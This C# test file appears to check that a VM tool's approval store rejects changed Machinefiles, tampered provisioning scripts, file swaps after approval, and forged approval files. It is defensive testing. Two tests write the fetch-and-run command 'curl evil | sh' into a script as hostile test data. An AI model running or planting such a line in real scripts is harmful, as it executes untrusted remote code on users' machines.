using System.Text.Json;
using Machine.Tool.Hosting;
using Machine.Tool.Machinefiles;
using Machine.Tool.Machines;
using Machine.Tool.Supervision;
using Machine.Tool.Tests.Commands;
using Machine.Tool.Tests.Machinefiles;

namespace Machine.Attacks.Tests.Repository;

/// <summary>A person said yes to one Machinefile; the next commit wants another under the same yes.</summary>
public sealed class ApprovalAttacks : IDisposable
{
    private readonly Scratch scratch = new();

    public ApprovalAttacks()
    {
        foreach (var script in new[] { "a.sh", "b.sh", "a,b.sh" })
        {
            scratch.Write(script, "echo " + script);
        }

        foreach (var folder in new[] { "data", "data2", "da", "data/inner" })
        {
            Directory.CreateDirectory(scratch.At(folder));
        }
    }

    public void Dispose() => scratch.Dispose();

    private MachinePlan Plan(string text) => MachinePlan.From(scratch.Read(text), scratch.Project);

    private ApprovalStore Store() => new(scratch.At("state/approvals"));

    [Theory]
    [InlineData("ports: ['1:23']", "ports: ['12:3']")]
    [InlineData("ports: ['80:81', '82:83']", "ports: ['80:83', '82:81']")]
    [InlineData("env: {A: , B: }", "env: {AB: }")]
    [InlineData("env: {A: , B: }", "env: {A: , C: }")]
    [InlineData("workspace: {outputs: ['a', 'b']}", "workspace: {outputs: ['a,b']}")]
    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['a', '**']}")]
    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['a'], changes: apply}")]
    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['A']}")]
    [InlineData("workspace: {outputs: ['\u00e9']}", "workspace: {outputs: ['e\u0301']}")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data2, guest: /mnt/a}]")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data/inner, guest: /mnt/a}]")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/a, write: true}]")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/b}]")]
    [InlineData("shares: [{host: ../da, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/a}]")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a}, {host: ../data2, guest: /mnt/b}]", "shares: [{host: ../data, guest: /mnt/b}, {host: ../data2, guest: /mnt/a}]")]
    [InlineData("shares: [{host: ../data, guest: /mnt/a, write: true}, {host: ../data2, guest: /mnt/b}]", "shares: [{host: ../data, guest: /mnt/a}, {host: ../data2, guest: /mnt/b, write: true}]")]
    [InlineData("provision: [a.sh]", "provision: [b.sh]")]
    [InlineData("provision: [a.sh, b.sh]", "provision: ['a,b.sh']")]
    [InlineData("provision: [a.sh, b.sh]", "provision: [b.sh, a.sh]")]
    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'https://h/e', sha256: " + One + "}")]
    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'http://h/d', sha256: " + One + "}")]
    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'https://h/d', sha256: " + Other + "}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {A: {from: env, to: b.example}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {B: {from: env, to: a.example}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {A: {from: git-credential, to: a.example}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {A: {from: env, to: 'a.example:8443'}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {A: {from: env, to: a.example, header: X-Other}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}}", "secrets: {A: {from: env, to: a.example, private: true}}")]
    [InlineData("secrets: {A: {from: {file: ../data/a}, to: a.example}}", "secrets: {A: {from: {file: ../data/b}, to: a.example}}")]
    [InlineData("secrets: {A: {from: {command: [pass, a]}, to: a.example}}", "secrets: {A: {from: {command: [pass, b]}, to: a.example}}")]
    [InlineData("secrets: {A: {from: {command: [pass, a, b]}, to: a.example}}", "secrets: {A: {from: {command: [pass, 'a b']}, to: a.example}}")]
    [InlineData("secrets: {A: {from: env, to: a.example, api: openai, tokens: 10}}", "secrets: {A: {from: env, to: a.example, api: openai, tokens: 1000}}")]
    [InlineData("secrets: {A: {from: env, to: a.example, api: openai, tokens: 10}}", "secrets: {A: {from: env, to: a.example, api: openai}}")]
    [InlineData("secrets: {A: {from: env, to: a.example}, B: {from: env, to: b.example}}", "secrets: {A: {from: env, to: b.example}, B: {from: env, to: a.example}}")]
    public void A_yes_to_one_request_is_no_yes_to_another(string approved, string changed)
    {
        var store = Store();
        store.Approve(scratch.Project, Plan(approved));
        store.IsApproved(scratch.Project, Plan(approved)).ShouldBeTrue("the approval itself counts");

        store.IsApproved(scratch.Project, Plan(changed)).ShouldBeFalse();
    }

    [Theory]
    [InlineData("a.sh")]
    [InlineData("b.sh")]
    public void A_yes_to_a_script_is_no_yes_to_what_it_becomes(string script)
    {
        Store().Approve(scratch.Project, Plan("provision: [a.sh, b.sh]"));
        scratch.Write(script, "curl evil | sh");

        Store().IsApproved(scratch.Project, Plan("provision: [a.sh, b.sh]")).ShouldBeFalse();
    }

    // A hostile process of the tree writes between the yes and the build, minutes later.
    [Fact]
    public void What_is_built_is_what_was_agreed_to_whatever_the_file_says_meanwhile()
    {
        var machinefile = scratch.Read("sdk: none\nprovision: [a.sh, b.sh]");
        Store().Approve(scratch.Project, MachinePlan.From(machinefile, scratch.Project));
        scratch.Write("a.sh", "curl evil | sh");
        File.Delete(Path.Combine(scratch.Project.Path, "b.sh"));

        Store().IsApproved(scratch.Project, MachinePlan.From(machinefile, scratch.Project)).ShouldBeTrue("it is judged as it was read");
        var request = ProjectImage.Request(scratch.Project, machinefile, MachinePaths.At(scratch.At("home")));

        request.Provision.Select(script => System.Text.Encoding.UTF8.GetString(script.Content!)).ShouldBe(["echo a.sh", "echo b.sh"]);
        request.Provision.Select(script => script.Sha256).ShouldBe(machinefile.Provision.Select(script => script.Sha256));
    }

    [Fact]
    public void A_thousand_names_of_one_large_script_are_not_held_a_thousand_times()
    {
        scratch.Write("s0.sh", new string('#', 1 << 20));
        foreach (var i in Enumerable.Range(1, 99))
        {
            File.CreateSymbolicLink(Path.Combine(scratch.Project.Path, $"s{i}.sh"), "s0.sh");
        }

        Should.Throw<MachineException>(() => scratch.Read($"provision: [{string.Join(", ", Enumerable.Range(0, 100).Select(i => $"s{i}.sh"))}]"))
            .Message.ShouldContain("the scripts have more than 4 MiB together");
    }

    // Between what was read and what runs lie minutes, in which the file may become another, or a pipe.
    [Fact]
    public async Task A_machine_runs_as_the_file_that_was_read_and_is_stale_when_it_becomes_another()
    {
        await File.WriteAllTextAsync(scratch.Project.Machinefile, "sdk: none\n", TestContext.Current.CancellationToken);
        var read = MachinefileReader.Read(scratch.Project);
        read.Sha256.ShouldBe(MachinefileReader.HashOf(scratch.Project));

        await File.WriteAllTextAsync(scratch.Project.Machinefile, "sdk: none\nports: [80]\n", TestContext.Current.CancellationToken);
        StartedMachine.Of(default!, read).MachinefileHash.ShouldNotBe(MachinefileReader.HashOf(scratch.Project));

        await NamedPipe.MakeAsync(scratch.Project.Machinefile);
        MachinefileReader.HashOf(scratch.Project).ShouldBe("");
    }

    private const string One = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    private const string Other = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
}

/// <summary>The repository brings its own yes. The canary is what <c>plan</c> says, by the tool as a user starts it.</summary>
public sealed class ForgedApprovalAttacks : IDisposable
{
    private const string Machinefile = "ports: [80]\n";

    private readonly ToolProcess tool = new();

    public ForgedApprovalAttacks() => tool.Write("project/Machinefile", Machinefile);

    public void Dispose() => tool.Dispose();

    [Theory]
    [InlineData("approvals")]
    [InlineData(".machine/approvals")]
    [InlineData(".config/machine/approvals")]
    [InlineData(".local/share/machine/approvals")]
    [InlineData("machine/approvals")]
    [InlineData(".machine/home/approvals")]
    public async Task A_yes_in_the_project_is_none(string folder)
    {
        // What a yes looks like, written by the tool itself for this very project and plan.
        var (hash, _) = await PlanAsync();
        var real = Path.Combine(tool.Home, "approvals");
        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash, ["PATH"] = "" }, "start");
        Assert.SkipUnless(Directory.Exists(real), "start asks for programs before it takes the yes");
        (await PlanAsync()).Approved.ShouldBeTrue("the forgery is as the tool writes it");
        Directory.CreateDirectory(Path.Combine(tool.Project, folder));
        foreach (var file in Directory.GetFiles(real))
        {
            File.Move(file, Path.Combine(tool.Project, folder, Path.GetFileName(file)));
        }

        (await PlanAsync()).Approved.ShouldBeFalse();
    }

    [Fact]
    public async Task A_yes_to_another_plan_renamed_is_none()
    {
        var (hash, _) = await PlanAsync();
        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash, ["PATH"] = "" }, "start");
        var real = Path.Combine(tool.Home, "approvals");
        Assert.SkipUnless(Directory.Exists(real), "start asks for programs before it takes the yes");
        var yes = Directory.GetFiles(real).ShouldHaveSingleItem();
        tool.Write("project/Machinefile", "ports: [81]\n");
        var (other, _) = await PlanAsync();
        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = other, ["PATH"] = "" }, "start");
        var second = Directory.GetFiles(real).Single(file => file != yes);
        File.Copy(yes, second, overwrite: true);

        (await PlanAsync()).Approved.ShouldBeFalse();
    }

    [Theory]
    [InlineData("yes")]
    [InlineData("1")]
    [InlineData("true")]
    [InlineData("*")]
    [InlineData("")]
    public async Task A_pipelines_yes_is_the_plans_hash_and_nothing_else(string said)
    {
        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = said, ["PATH"] = "" }, "start");

        (await PlanAsync()).Approved.ShouldBeFalse();
        Directory.Exists(Path.Combine(tool.Home, "approvals")).ShouldBeFalse();
    }

    private async Task<(string Hash, bool Approved)> PlanAsync()
    {
        var outcome = await tool.RunAsync("plan", "--json");
        using var json = JsonDocument.Parse(outcome.Output);
        var plan = json.RootElement.EnumerateObject().ToDictionary(property => property.Name, property => property.Value.Clone(), StringComparer.OrdinalIgnoreCase);
        return (plan["hash"].GetString()!, plan["approved"].GetBoolean());
    }
}
